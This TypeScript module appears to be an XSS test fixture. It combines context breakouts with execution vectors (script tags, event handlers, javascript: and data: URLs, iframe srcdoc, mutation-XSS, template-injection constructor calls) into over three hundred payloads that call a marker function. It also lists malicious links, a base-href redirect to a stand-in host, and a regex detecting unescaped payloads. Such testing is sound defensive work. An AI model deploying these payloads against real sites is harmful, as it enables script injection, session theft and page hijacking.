/** What a payload calls when it runs: the browser's hook counts it. */
export const HOOK = 'terbakar';

const RUN = `${HOOK}()`;

/** Ways out of where a text may stand: plain text, an attribute, a tag that hides its content, a script, a comment. */
const BREAKOUTS = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '"/>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</option></select>',
  '</button></form>',
  '</svg>',
  '</a>',
  '-->',
  ']]>',
  '\\"}]);',
  "\\');",
  '\u2028',
  '{@html ',
  '${',
] as const;

/** Ways to run something once out there. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<ScRiPt\t>${RUN}//`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href="data:,${RUN}" />`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="data:text/html,<script>parent.${RUN}</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<base href="https://jahat.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  ` autofocus onfocus=${RUN} x=`,
  ` onmouseover=${RUN} style=position:fixed;inset:0 `,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u0000<script\u0000>${RUN}</script>`,
] as const;

/** More than three hundred texts that run something where they are not taken as text. Each says its number. */
export const PAYLOADS: readonly string[] = BREAKOUTS.flatMap((out) => VECTORS.map((vector) => out + vector))
  .map((text) => text.replaceAll('\u0000', ''))
  .map((text, index) => `x${index} ${text}`);

/** Addresses that run something when they are followed. */
export const LINKS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//jahat.example/${HOOK}`,
  `https://youtu.be/"onmouseover="${RUN}`,
];

/** A page's text holds this when a payload stands in it as markup and not as text. */
export function rawPayloads(html: string): string[] {
  const found = html.match(
    /<(script|img|svg|math|iframe|object|details|input|video|body|noscript|base|meta|a|form)\b[^<]{0,80}(terbakar|jahat\.example)/gi,
  );
  return found ?? [];
}
